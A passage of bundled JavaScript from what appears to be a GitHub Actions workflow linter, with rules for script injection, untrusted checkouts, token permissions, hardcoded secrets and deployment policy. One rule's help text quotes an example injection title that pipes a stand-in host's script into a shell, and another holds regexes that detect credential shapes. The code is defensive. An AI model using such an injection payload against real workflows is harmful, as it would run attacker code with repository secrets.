        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
            return pair.value;
    return undefined;
}
const untrusted_input_in_script_rule = {
    id: 'PG200',
    name: 'untrusted-input-in-script',
    level: 'error',
    description: 'Untrusted event data (titles, bodies, head refs, commit messages, `github.head_ref`, …) expanded with `${{ }}` in `run:` or in `actions/github-script`\'s `script:`.',
    help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The list of untrusted inputs is the one of actionlint and GitHub\'s security hardening guide.',
    create(context) {
        return {
            step(step, _owner, file) {
                const sites = [];
                const run = untrusted_input_in_script_valueOf(step.token, 'run');
                if (run)
                    sites.push({ where: 'run:', token: run });
                if (/^actions\/github-script@/i.test(step.uses?.value ?? '')) {
                    const script = untrusted_input_in_script_valueOf(untrusted_input_in_script_valueOf(step.token, 'with'), 'script');
                    if (script)
                        sites.push({ where: "actions/github-script's script:", token: script });
                }
                for (const { where, token } of sites) {
                    for (const site of expressionSites(token)) {
                        for (const chain of contextChains(site)) {
                            const path = untrusted(chain.segments);
                            if (!path)
                                continue;
                            const shown = chain.segments.map((s) => s.name).join('.');
                            context.report(file.file, chain.segments[0], `"${shown}" is untrusted input (${path}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
                        }
                    }
                }
            }
        };
    }
};
/* harmony default export */ const untrusted_input_in_script = (untrusted_input_in_script_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-checkout.js
/** PG203 untrusted-checkout: a privileged `pull_request_target` or `workflow_run` job checks out the untrusted head. */


/** Expressions that name the code of the pull request or of the run that triggered `workflow_run`. */
const HEAD = [
    'github.event.pull_request.head.sha',
    'github.event.pull_request.head.ref',
    'github.event.pull_request.merge_commit_sha',
    'github.head_ref',
    'github.event.workflow_run.head_sha',
    'github.event.workflow_run.head_branch'
];
const PRIVILEGED = ['pull_request_target', 'workflow_run'];
const untrusted_checkout_rule = {
    id: 'PG203',
    name: 'untrusted-checkout',
    level: 'error',
    description: 'A `pull_request_target` or `workflow_run` workflow whose job checks out the untrusted head (`actions/checkout` with a `ref:` of the pull request head or `refs/pull/…/merge`).',
    help: '`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a write token, precisely so that they can act on pull requests from forks. Checking out the head of the pull request there and then building, testing or even installing it runs the attacker\'s code with those privileges ("pwn request"). Use `pull_request` for anything that runs the contributed code, and keep the privileged workflow to trusted steps (labelling, commenting on results it downloads as data).',
    create(context) {
        return {
            step(step, owner, file) {
                if (file.kind !== 'workflow' || !('id' in owner))
                    return;
                const trigger = PRIVILEGED.find((t) => file.on.has(t));
                if (!trigger || !/^actions\/checkout@/i.test(step.uses?.value ?? ''))
                    return;
                const ref = step.with.get('ref');
                if (!ref)
                    return;
                let found;
                for (const site of expressionSites(ref.value)) {
                    for (const chain of contextChains(site)) {
                        const path = chain.segments.map((s) => s.name.toLowerCase()).join('.');
                        if (HEAD.some((h) => path === h || path.startsWith(`${h}.`)))
                            found ??= { what: chain.segments.map((s) => s.name).join('.'), at: chain.segments[0] };
                    }
                }
                const text = (0,dist/* isString */.Kg)(ref.value) ? ref.value.value : (0,dist/* isBasicExpression */.hR)(ref.value) ? ref.value.toDisplayString() : '';
                if (!found && /refs\/pull\/[^/]+\/(merge|head)/.test(text)) {
                    const r = ref.value.range;
                    found = { what: 'refs/pull/…', at: { at: r ? { line: r.start.line, column: r.start.column } : ref.key.at } };
                }
                if (!found)
                    return;
                context.report(file.file, found.at, `job "${owner.id.value}" of a ${trigger} workflow checks out the untrusted head (${found.what}) with the base repository's secrets and write token; run contributed code under pull_request instead`);
            }
        };
    }
};
/* harmony default export */ const untrusted_checkout = (untrusted_checkout_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/index.js


const injection_family = {
    name: 'injection',
    title: 'Injection and triggers',
    description: 'Untrusted data reaching code: expressions expanded in scripts, untrusted checkouts under privileged triggers.',
    rules: [
        untrusted_input_in_script,
        untrusted_checkout
    ]
};
/* harmony default export */ const injection = (injection_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/missing-permissions.js
/** PG202 missing-permissions: jobs left with the default `GITHUB_TOKEN` permissions, and `write-all`. */

function writeAll(token) {
    if (!token || !(0,dist/* isString */.Kg)(token) || token.value.trim() !== 'write-all')
        return undefined;
    return { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
}
const missing_permissions_rule = {
    id: 'PG202',
    name: 'missing-permissions',
    level: 'warning',
    description: 'A job with no `permissions:` in a workflow with none at the top, or `permissions: write-all` anywhere.',
    help: 'Without `permissions:`, the `GITHUB_TOKEN` gets the repository\'s default, which on older repositories and organizations is read and write on everything; any compromised step can then push code, create releases or approve pull requests. Declare the least the workflow needs at the top (`permissions: { contents: read }`, or `{}`) and widen per job where a job needs more. `write-all` grants every scope: list the scopes instead. Workflows triggered only by `workflow_call` take their permissions from the caller and are not checked for a missing key.',
    create(context) {
        return {
            workflowPre(workflow) {
                const top = workflow.permissions;
                const all = writeAll(top?.value);
                if (all)
                    context.report(workflow.file, all, 'permissions: write-all grants the token every scope; list only the scopes the workflow needs', 'error');
                if (top)
                    return;
                if (workflow.on.size > 0 && [...workflow.on.keys()].every((k) => k === 'workflow_call'))
                    return;
                for (const job of workflow.jobs) {
                    if (job.permissions)
                        continue;
                    context.report(workflow.file, job.id, `job "${job.id.value}" has no permissions: and the workflow sets none, so its token gets the repository default (possibly write on everything); set permissions: at the top of the workflow (e.g. contents: read) or on the job`);
                }
            },
            jobPre(job, workflow) {
                const all = writeAll(job.permissions);
                if (all)
                    context.report(workflow.file, all, `job "${job.id.value}" has permissions: write-all, which grants the token every scope; list only the scopes the job needs`, 'error');
            }
        };
    }
};
/* harmony default export */ const missing_permissions = (missing_permissions_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/hardcoded-secret.js
/** PG204 hardcoded-secret: credentials written into a workflow or action file. */

/** Credentials recognisable by their shape; the message names the kind, never the value. */
const KINDS = [
    { kind: 'an AWS access key id', re: /\b(?:AKIA|ASIA)[0-9A-Z]{16}\b/g },
    { kind: 'a GitHub token', re: /\bgh[opsu]_[A-Za-z0-9]{36,}\b/g },
    { kind: 'a GitHub fine-grained token', re: /\bgithub_pat_[A-Za-z0-9_]{22,}\b/g },
    { kind: 'a private key', re: /-----BEGIN (?:[A-Z]+ )*PRIVATE KEY(?: BLOCK)?-----/g },
    { kind: 'a Slack token', re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g },
    { kind: 'a Slack webhook URL', re: /https:\/\/hooks\.slack\.com\/services\/T[A-Za-z0-9]+\/B[A-Za-z0-9]+\/[A-Za-z0-9]+/g }
];
/** Keys whose value is a credential: `*_KEY`, `*_TOKEN`, `*_SECRET` (or `-key`, …) and `*PASSWORD*`. */
const SECRET_KEY = /(?:^|[_-])(?:key|token|secret)$|password|passwd/i;
/** Shannon entropy in bits per character. */
function entropy(s) {
    const counts = new Map();
    for (const c of s)
        counts.set(c, (counts.get(c) ?? 0) + 1);
    let bits = 0;
    for (const n of counts.values())
        bits -= (n / s.length) * Math.log2(n / s.length);
    return bits;
}
/** A literal that looks generated rather than written: long, no spaces, mixed letters and digits, high entropy. */
function highEntropy(value) {
    const v = value.trim();
    if (v.length < 16 || /\s/.test(v) || v.includes('${{'))
        return false;
    if (!/[A-Za-z]/.test(v) || !/\d/.test(v))
        return false;
    return entropy(v) >= 3.5;
}
function lineColumn(text, offset) {
    const before = text.slice(0, offset);
    const line = before.split('\n').length;
    return { line, column: offset - before.lastIndexOf('\n') };
}
const hardcoded_secret_rule = {
    id: 'PG204',
    name: 'hardcoded-secret',
    level: 'error',
    description: 'A credential written into the file: AWS access key ids, GitHub tokens, private keys, Slack tokens, or a high-entropy literal assigned to a `*_KEY`, `*_TOKEN`, `*_SECRET` or `*PASSWORD*` key.',
    help: 'Everything in a workflow file is readable by everyone who can read the repository, forever (in its history too), and is not masked in logs. Revoke the credential, remove it, and pass it as a secret (`${{ secrets.NAME }}`) or, better, use OIDC (`aws-actions/configure-aws-credentials` with `role-to-assume`). Literal values of secret-named keys are reported when they look generated (16 characters or more, letters and digits, high entropy); expressions are never reported. The finding names the kind and the key, never the value.',
    create(context) {
        return {
            file(parsed) {
                const text = parsed.source.text ?? '';
                const shaped = new Set();
                for (const { kind, re } of KINDS) {
                    for (const m of text.matchAll(re)) {
                        const at = lineColumn(text, m.index ?? 0);
                        shaped.add(at.line);
                        context.report(parsed.source, { at }, `${kind} is written into the file; revoke it and pass it as a secret (secrets.NAME) instead`);
                    }
                }
                if (!parsed.model)
                    return;
                const visit = (token, where) => {
                    if ((0,dist/* isSequence */.wZ)(token)) {
                        let i = 0;
                        for (const item of token)
                            visit(item, `${where}[${i++}]`);
                        return;
                    }
                    if (!(0,dist/* isMapping */.pi)(token))
                        return;
                    for (const pair of token) {
                        if (!(0,dist/* isString */.Kg)(pair.key))
                            continue;
                        const key = pair.key.value;
                        const value = pair.value;
                        if ((0,dist/* isString */.Kg)(value) && SECRET_KEY.test(key) && highEntropy(value.value)) {
                            const at = value.range ? { line: value.range.start.line, column: value.range.start.column } : { line: 1, column: 1 };
                            if (!shaped.has(at.line))
                                context.report(parsed.source, { at }, `"${where ? `${where}.` : ''}${key}" is assigned a literal high-entropy value that looks like a credential; pass it as a secret (secrets.NAME) instead`);
                        }
                        else
                            visit(value, where ? `${where}.${key}` : key);
                    }
                };
                visit(parsed.model.root, '');
            }
        };
    }
};
/* harmony default export */ const hardcoded_secret = (hardcoded_secret_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/index.js


const permissions_family = {
    name: 'permissions',
    title: 'Permissions and secrets',
    description: 'What the token may do and where secrets go.',
    rules: [
        missing_permissions,
        hardcoded_secret
    ]
};
/* harmony default export */ const permissions = (permissions_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-jobs.js
/**
 * Deploy jobs of a workflow, shared by the deployment-policy rules (PG300–PG304): which jobs
 * deploy, to which environment, with which step, and how jobs are ordered through `needs:`.
 *
 * A job deploys when one of its steps uses our deploy action (`owner/phase-gates/actions/deploy@…`,
 * `./actions/deploy`) or the root action (`owner/phase-gates@…`, the whole Phase 06 in one step),
 * when it is bound to an `environment:`, or when its id or name says so (deploy, release, publish,
 * rollout, production, prod) and a step runs a deploy command (kubectl apply, helm upgrade,
 * terraform apply, …). A job that publishes a package (npm publish, twine upload, cargo publish,
 * the PyPI publish action, …) and deploys nothing is not a deploy job, even when it is bound to an
 * environment: trusted publishing asks for one, and a package has no service to smoke-test.
 */


const DEPLOY_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/deploy@|\.\/actions\/deploy\/?$)/i;
const ROOT_ACTION = /^[^/\s]+\/phase-gates@/i;
const SMOKE_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/smoke-test@|\.\/actions\/smoke-test\/?$)/i;
const GATES_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/gates-enforcer@|\.\/actions\/gates-enforcer\/?$)/i;
const DEPLOY_NAME = /deploy|release|publish|rollout|production|prod\b/i;
const DEPLOY_COMMAND = /\b(?:kubectl\s+(?:\S+\s+)*?(?:apply|rollout)\b|helm\s+(?:\S+\s+)*?upgrade\b|terraform\s+(?:\S+\s+)*?apply\b|aws\s+ecs\s+update-service\b|az\s+webapp\s+deploy\b|gcloud\s+run\s+deploy\b|vercel\s+(?:deploy\s+)?.*--prod\b|serverless\s+deploy\b|sls\s+deploy\b)/i;
const PUBLISH_COMMAND = /\b(?:(?:npm|pnpm|yarn(?:\s+npm)?)\s+publish\b|twine\s+upload\b|(?:uv|poetry|flit|hatch)\s+publish\b|cargo\s+publish\b|gem\s+push\b|dotnet\s+nuget\s+push\b)/i;
const PUBLISH_ACTION = /^pypa\/gh-action-pypi-publish@/i;
const SMOKE_COMMAND = /\b(?:curl|wget|smoke|health[-_ ]?check|healthz|readyz|livez)\b/i;
const GATES_NAME = /^gates(?:[-_ ]?enforcer)?$/i;
const PRODUCTION = /^(?:prod|production)$/i;
const STAGING = /^(?:staging|stage|stg|pre-?prod|pre-?production)$/i;
function deploy_jobs_pos(token) {
    return token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
}
/** The value of `key` in a mapping token, with its position. */
function mappingValue(token, key) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
            return pair.value;
    return undefined;
}
/** A token as a reportable node. */
function nodeOf(token) {
    return { at: deploy_jobs_pos(token) };
}
/** A literal `true` (the parser may keep it as a boolean or a string). */
function isTrue(token) {
    return !!token && (0,dist/* isLiteral */.c$)(token) && token.toString().trim().toLowerCase() === 'true';
}
/** The environment name of `environment:` (a string, or a mapping with `name:`); literals only. */
function environmentName(token) {
    if (!token)
        return undefined;
    const name = (0,dist/* isMapping */.pi)(token) ? mappingValue(token, 'name') : token;
    return name && (0,dist/* isLiteral */.c$)(name) ? name.toString().trim() : undefined;
}
function isDeployAction(uses) {
    return !!uses && DEPLOY_ACTION.test(uses.trim());
}
function isRootAction(uses) {
    return !!uses && ROOT_ACTION.test(uses.trim());
}
/** A step that deploys: our deploy or root action, or a deploy command. */
function isDeployStep(step) {
    return isDeployAction(step.uses?.value) || isRootAction(step.uses?.value) || (!!step.run && DEPLOY_COMMAND.test(step.run.value));
}
/** A smoke test: our smoke-test action, or a run that probes the service (curl, wget, health check). */
function isSmokeStep(step) {
    if (step.uses && SMOKE_ACTION.test(step.uses.value.trim()))
        return true;
    return !!step.run && SMOKE_COMMAND.test(step.run.value);
}
/** A step running our gates-enforcer action. */
function isGatesStep(step) {
    return !!step.uses && GATES_ACTION.test(step.uses.value.trim());
}
/** A gates job: it runs our gates-enforcer action, or is named `gates` / `gates_enforcer`. */
function isGatesJob(job) {
    return GATES_NAME.test(job.id.value) || (!!job.name && GATES_NAME.test(job.name.value)) || job.steps.some(isGatesStep);
}
function isProduction(name) {
    return PRODUCTION.test(name);
}
function isStaging(name) {
    return STAGING.test(name);
}
/** A step that publishes a package to a registry. */
function isPublishStep(step) {
    return (!!step.uses && PUBLISH_ACTION.test(step.uses.value.trim())) || (!!step.run && PUBLISH_COMMAND.test(step.run.value));
}
/** The job as a deploy job, or undefined when it does not deploy. */
function deployJob(job) {
    const deployStep = job.steps.find(isDeployStep);
    const byAction = job.steps.some((s) => isDeployAction(s.uses?.value) || isRootAction(s.uses?.value));
    if (!deployStep && job.steps.some(isPublishStep))
        return undefined;
    const named = DEPLOY_NAME.test(job.id.value) || (!!job.name && DEPLOY_NAME.test(job.name.value));
    if (!byAction && job.environment === undefined && !(named && deployStep))
        return undefined;
    const environments = [];
    const jobEnv = environmentName(job.environment);
    if (jobEnv)
        environments.push(jobEnv);
    for (const step of job.steps) {
        if (!isDeployAction(step.uses?.value) && !isRootAction(step.uses?.value))
            continue;
        const input = step.with.get('environment')?.value;
        if (input && (0,dist/* isLiteral */.c$)(input))
            environments.push(input.toString().trim());
    }
    return {
        job,
        deployStep,
        rootAction: job.steps.some((s) => isRootAction(s.uses?.value)),
        environments,
        production: environments.some(isProduction),
        staging: environments.some(isStaging)
    };
}
/** Every deploy job of the workflow, in file order. */
function deployJobs(workflow) {
    return workflow.jobs.map(deployJob).filter((d) => d !== undefined);
}
const dependentsOf = new WeakMap();
/** The jobs that need each job directly, built once per workflow. */
function dependents(workflow) {
    let map = dependentsOf.get(workflow);
    if (!map) {
        map = new Map();
        for (const job of workflow.jobs) {
            for (const needed of neededJobs(workflow, job)) {
                const list = map.get(needed);
                if (list)
                    list.push(job);
                else
                    map.set(needed, [job]);
            }
        }
        dependentsOf.set(workflow, map);
    }
    return map;
}
/**
 * The jobs that a job of `sources` waits for, directly or through other jobs (`upstream`), or that
 * wait for one (`downstream`); job ids are case-insensitive. One breadth-first pass over the needs
 * graph for all sources together: linear in the workflow, however many jobs it has. A source is in
 * the result only when a path leads to it from a source: from another, or from itself around a
 * cycle (which GitHub refuses, and PG111 reports).
 */
function reachable(workflow, sources, direction) {
    const edges = direction === 'upstream' ? (j) => neededJobs(workflow, j) : (j) => dependents(workflow).get(j) ?? [];
    const seen = new Set();
    const queue = [...sources];
    for (let i = 0; i < queue.length; i++) {
        for (const next of edges(queue[i])) {
            if (seen.has(next))
                continue;
            seen.add(next);
            queue.push(next);
        }
    }
    return seen;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/production-before-staging.js


const production_before_staging_rule = {
    id: 'PG300',
    name: 'production-before-staging',
    level: 'error',
    description: 'A production deploy job that does not come after a staging deploy job of the same workflow (through `needs:`).',
    help: 'The deployment policy says: deploy to staging before production, always. A job deploying to `production` (or `prod`, by its `environment:` or the deploy action\'s `environment` input) must wait, directly or through other jobs, for a job deploying to `staging` in the same workflow, so that a commit reaches production only after it ran in staging. Add the staging deploy job to the production job\'s `needs:`.',
    create(context) {
        return {
            workflowPost(workflow) {
                const deploys = deployJobs(workflow);
                const staging = new Set(deploys.filter((d) => d.staging && !d.production).map((d) => d.job));
                const afterStaging = reachable(workflow, staging, 'downstream');
                for (const d of deploys) {
                    if (!d.production)
                        continue;
                    if (afterStaging.has(d.job))
                        continue;
                    const hint = staging.size ? ` (add ${staging.size === 1 ? nameList([...staging].map((j) => j.id.value)) : `one of ${nameList([...staging].map((j) => j.id.value))}`} to its needs)` : ' (the workflow has no staging deploy job)';
                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not come after a staging deploy${hint}`);
                }
            }
        };
    }
};
/* harmony default export */ const production_before_staging = (production_before_staging_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-environment.js

const deploy_without_environment_rule = {
    id: 'PG301',
    name: 'deploy-without-environment',
    level: 'warning',
    description: 'A deploy job that is not bound to an `environment:`.',
    help: 'GitHub environments carry the protection rules of a deployment (required reviewers, wait timers, allowed branches) and its secrets, and record the deployment history. A job that deploys (with our deploy action, or by its name and a deploy command such as `kubectl apply` or `helm upgrade`) without `environment:` bypasses all of them. Add `environment: <name>` (or `environment: { name, url }`) to the job.',
    create(context) {
        return {
            workflowPost(workflow) {
                for (const d of deployJobs(workflow)) {
                    if (d.job.environment !== undefined)
                        continue;
                    const target = d.environments.length ? ` (it deploys to "${d.environments[0]}")` : '';
                    context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" is not bound to an environment:${target}`);
                }
            }
        };
    }
};
/* harmony default export */ const deploy_without_environment = (deploy_without_environment_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-smoke-test.js

const deploy_without_smoke_test_rule = {
    id: 'PG302',
    name: 'deploy-without-smoke-test',
    level: 'warning',
    description: 'A deploy job that no smoke test follows: neither a later step of the job nor a job that needs it.',
    help: 'The deployment policy says: run smoke tests after deployment. After the deploy step, a step of the same job must use our smoke-test action or probe the service (`curl`, `wget`, a health check), or a job that needs the deploy job must do so. The root action (`phase-gates@…`) runs its smoke tests itself.',
    create(context) {
        return {
            workflowPost(workflow) {
                const beforeSmoke = reachable(workflow, workflow.jobs.filter((j) => j.steps.some(isSmokeStep)), 'upstream');
                for (const d of deployJobs(workflow)) {
                    if (d.rootAction)
                        continue;
                    const after = d.deployStep?.index ?? -1;
                    if (d.job.steps.some((s) => s.index > after && isSmokeStep(s)))
                        continue;
                    if (beforeSmoke.has(d.job))
                        continue;
                    const at = d.deployStep ? (d.deployStep.uses ?? d.deployStep.run ?? d.deployStep) : d.job.id;
                    context.report(workflow.file, at, `deploy job "${d.job.id.value}" is not followed by a smoke test (a smoke-test step after the deploy, or a job that needs it and runs one)`);
                }
            }
        };
    }
};
/* harmony default export */ const deploy_without_smoke_test = (deploy_without_smoke_test_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-concurrency.js

const deploy_without_concurrency_rule = {
    id: 'PG303',
    name: 'deploy-without-concurrency',
    level: 'warning',
    description: 'A deploy job without `concurrency:` (on the job or its workflow), or with `cancel-in-progress: true`.',
    help: 'Two runs deploying the same environment at once race each other; a `concurrency:` group (e.g. `group: deploy-${{ github.ref }}-production`) serializes them. `cancel-in-progress: true` cancels the deploy that is running when a new one starts, which leaves the environment half-deployed: keep it `false` (the default) for deploy jobs and for workflows that contain them.',
    create(context) {
        return {
            workflowPost(workflow) {
                const deploys = deployJobs(workflow);
                if (!deploys.length)
                    return;
                const workflowCancel = mappingValue(workflow.concurrency?.value, 'cancel-in-progress');
                if (isTrue(workflowCancel)) {
                    const ids = deploys.map((d) => `"${d.job.id.value}"`).join(', ');
                    context.report(workflow.file, nodeOf(workflowCancel), `workflow concurrency cancels in progress, which can cancel deploy job${deploys.length > 1 ? 's' : ''} ${ids} half-way`);
                }
                for (const d of deploys) {
                    if (d.job.concurrency === undefined) {
                        if (workflow.concurrency === undefined) {
                            context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" has no concurrency: group, so two deploys can run at once`);
                        }
                        continue;
                    }
                    const cancel = mappingValue(d.job.concurrency, 'cancel-in-progress');
                    if (isTrue(cancel)) {
                        context.report(workflow.file, nodeOf(cancel), `deploy job "${d.job.id.value}" cancels in progress, which can leave the environment half-deployed`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const deploy_without_concurrency = (deploy_without_concurrency_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-before-gates.js

const deploy_before_gates_rule = {
    id: 'PG304',
    name: 'deploy-before-gates',
    level: 'error',
    description: 'A production deploy job that does not need (directly or through other jobs) a gates job.',
    help: 'The deployment policy forbids deploying without automated tests passing. A production deploy job must wait, through `needs:`, for a job that enforces the gates: one that uses our gates-enforcer action (`…/actions/gates-enforcer`) or is named `gates` / `gates_enforcer`; a gates-enforcer step before the deploy step in the same job counts too, and the root action (`phase-gates@…`) enforces the gates itself.',
    create(context) {
        return {
            workflowPost(workflow) {
                const afterGates = reachable(workflow, workflow.jobs.filter(isGatesJob), 'downstream');
                for (const d of deployJobs(workflow)) {
                    if (!d.production || d.rootAction)
                        continue;
                    const before = d.deployStep?.index ?? d.job.steps.length;
                    if (d.job.steps.some((s) => s.index < before && isGatesStep(s)))
                        continue;
                    if (afterGates.has(d.job))
                        continue;
                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not need a gates job (one running gates-enforcer), so it can deploy without the gates passing`);
                }
            }
        };
    }
};
/* harmony default export */ const deploy_before_gates = (deploy_before_gates_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/index.js





const deployment_family = {
    name: 'deployment',
    title: 'Deployment policy',
    description: 'The deployment policy: staging before production, environments, smoke tests, concurrency, gates.',
    rules: [
        production_before_staging,
        deploy_without_environment,
        deploy_without_smoke_test,
        deploy_without_concurrency,
        deploy_before_gates
    ]
};
/* harmony default export */ const deployment = (deployment_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-checks.js
/**
 * Shared by the required-checks rules (PG400–PG402): the status check names the jobs of the
 * checked workflows produce, as GitHub forms them, and whether a pull request can skip them.
 */

/** Pull request triggers whose filters leave a check pending forever. */
const PR_TRIGGERS = ['pull_request', 'pull_request_target'];
const FILTERS = ['paths', 'paths-ignore', 'branches', 'branches-ignore'];
/** Reads the source once per source object, whatever rule asks first. */
const states = new WeakMap();
function readRequired(source) {
    let p = states.get(source);
    if (!p) {
        p = source.read();
        states.set(source, p);
    }
    return p;
}
/** Most jobs a matrix may make in a workflow run (GitHub's limit). */
const MAX_MATRIX_JOBS = 256;
function literal(token) {
    return token && (0,dist/* isLiteral */.c$)(token) ? token.toString() : undefined;
}
/** The literal matrix combinations of a job (axes, minus exclude, plus include); undefined when it has no matrix or it is not literal. */
function matrixCombinations(job) {
    const strategy = job.strategy;
    if (!strategy || !(0,dist/* isMapping */.pi)(strategy))
        return undefined;
    let matrix;
    for (const pair of strategy)
        if (literal(pair.key) === 'matrix')
            matrix = pair.value;
    if (!matrix)
        return undefined;
    if (!(0,dist/* isMapping */.pi)(matrix))
        return 'dynamic';
    const axes = [];
    const include = [];
    const exclude = [];
    const objects = (token, into) => {
        if (!(0,dist/* isSequence */.wZ)(token))
            return false;
        for (const item of token) {
            if (!(0,dist/* isMapping */.pi)(item))
                return false;
            const o = {};
            for (const p of item) {
                const k = literal(p.key);
                const v = literal(p.value);
                if (k === undefined || v === undefined)
                    return false;
                o[k] = v;
            }
            into.push(o);
        }
        return true;
    };
    for (const pair of matrix) {
        const key = literal(pair.key);
        if (key === undefined)
            return 'dynamic';
        if (key === 'include' || key === 'exclude') {
            if (!objects(pair.value, key === 'include' ? include : exclude))
                return 'dynamic';
            continue;
        }
        if (!(0,dist/* isSequence */.wZ)(pair.value))
            return 'dynamic';
        const values = [];
        for (const v of pair.value) {
            const s = literal(v);
            if (s === undefined)
                return 'dynamic';
            values.push(s);
        }
        axes.push([key, values]);
    }
    // GitHub refuses a matrix of more than 256 jobs (https://docs.github.com/en/actions/reference/limits):
    // such a product is not expanded (it would be exponential in the axes), its names stay unknown.
    if (axes.reduce((n, [, values]) => n * Math.max(values.length, 1), 1) > MAX_MATRIX_JOBS)
        return 'dynamic';
    let combos = axes.length ? [{}] : [];
    for (const [key, values] of axes)
        combos = combos.flatMap((c) => values.map((v) => ({ ...c, [key]: v })));
    combos = combos.filter((c) => !exclude.some((e) => Object.entries(e).every(([k, v]) => c[k] === v)));
    const axisNames = new Set(axes.map(([k]) => k));
    for (const inc of include) {
        // Added to every combination whose original values it does not overwrite; else a new combination.
        const matching = combos.filter((c) => Object.entries(inc).every(([k, v]) => !axisNames.has(k) || c[k] === v));
        if (matching.length) {
            for (const c of matching)
                Object.assign(c, inc);
        }
        else {
            combos.push({ ...inc });
            if (combos.length > MAX_MATRIX_JOBS)
                return 'dynamic';
        }
    }
    return combos;
}
/**
 * The parser turns `test-${{ matrix.os }}` into `${{ format('test-{0}', matrix.os) }}`: back to
 * the template, so that matrix values expand into it.
 */
function templateText(value) {
    const m = /^\$\{\{\s*format\('((?:[^']|'')*)'\s*((?:,\s*[^,()]+?)*)\s*\)\s*\}\}$/.exec(value);
    if (!m)
        return value;
    const args = m[2].split(',').map((a) => a.trim()).filter(Boolean);
    return m[1]
        .replace(/''/g, "'")
        .replace(/\{\{|\}\}|\{(\d+)\}/g, (whole, i) => (whole === '{{' ? '{' : whole === '}}' ? '}' : args[Number(i)] !== undefined ? `\${{ ${args[Number(i)]} }}` : whole));
}
const EXPRESSION = /\$\{\{\s*(.*?)\s*\}\}/g;
/** A job's check names as GitHub forms them (a regexp where run-time values remain). */
function jobCheckNames(job) {
    const base = job.name ? templateText(job.name.value) : job.id.value;
    const combos = matrixCombinations(job);
    const expand = (text, values) => {
        let dynamic = false;
        const name = text.replace(EXPRESSION, (whole, expr) => {
            const m = /^matrix\.([\w-]+)$/.exec(expr);
            if (m && m[1] in values)
                return values[m[1]];
            dynamic = true;
            return whole;
        });
        if (!dynamic)
            return { name };
        const source = name
            .split(EXPRESSION)
            .map((part, i) => (i % 2 ? '.*' : part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')))
            .join('');
        return { name, pattern: new RegExp(`^${source}$`) };
    };
    if (combos === undefined || (Array.isArray(combos) && combos.length === 0))
        return [expand(base, {})];
    if (combos === 'dynamic')
        return [/\$\{\{[^}]*matrix\./.test(base) ? expand(base, {}) : expand(`${base} (\${{ matrix }})`, {})];
    const usesMatrix = /\$\{\{[^}]*matrix\./.test(base);
    return combos.map((c) => (usesMatrix ? expand(base, c) : expand(`${base} (${Object.values(c).join(', ')})`, c)));
}
/** An `if:` that can be false: anything but `always()` and `true`. */
function canSkip(condition) {
    if (condition === undefined)
        return false;
    const c = condition.trim().replace(/^\$\{\{\s*(.*?)\s*\}\}$/, '$1').trim();
    return !(c === 'true' || c === 'always()');
}
/** The filters of a workflow's pull request triggers that can leave it unstarted, e.g. `pull_request.paths`. */
function prFilter(workflow) {
    for (const trigger of PR_TRIGGERS) {
        const entry = workflow.on.get(trigger);
        if (!entry || !(0,dist/* isMapping */.pi)(entry.value))
            continue;
        for (const pair of entry.value) {
            const key = literal(pair.key);
            if (key && FILTERS.includes(key)) {
                const at = pair.key.range ? { line: pair.key.range.start.line, column: pair.key.range.start.column } : entry.key.at;
                return { reason: `\`${trigger}.${key}\` of workflow ${workflow.file.path}`, node: { at } };
            }
        }
    }
    return undefined;
}
/** Every check name the jobs of the checked workflows produce, reusable workflows followed one level per call. */
function producedChecks(project) {
    const out = [];
    for (const file of project.files) {
        const workflow = file.model;
        if (!workflow || workflow.kind !== 'workflow')
            continue;
        // A workflow only others call produces its checks under its callers' names.
        if (workflow.on.size === 1 && workflow.workflowCall)
            continue;
        const filter = prFilter(workflow);
        for (const job of workflow.jobs) {
            const jobSkip = canSkip(job.if?.value) ? { reason: `the \`if:\` of job "${job.id.value}"`, node: job.if } : undefined;
            const skip = filter ? { ...filter, hard: true } : jobSkip ? { ...jobSkip, hard: false } : undefined;
            const names = jobCheckNames(job);
            if (!job.uses) {
                for (const n of names)
                    out.push({ ...n, workflow, job, skip });
                continue;
            }
            const callee = project.local(job.uses.value);
            for (const caller of names) {
                if (!callee || callee.kind !== 'workflow') {
                    out.push({ name: `${caller.name} / …`, pattern: new RegExp(`^${required_checks_escape(caller.name)} / .*$`), workflow, job, skip });
                    continue;
                }
                for (const inner of callee.jobs) {
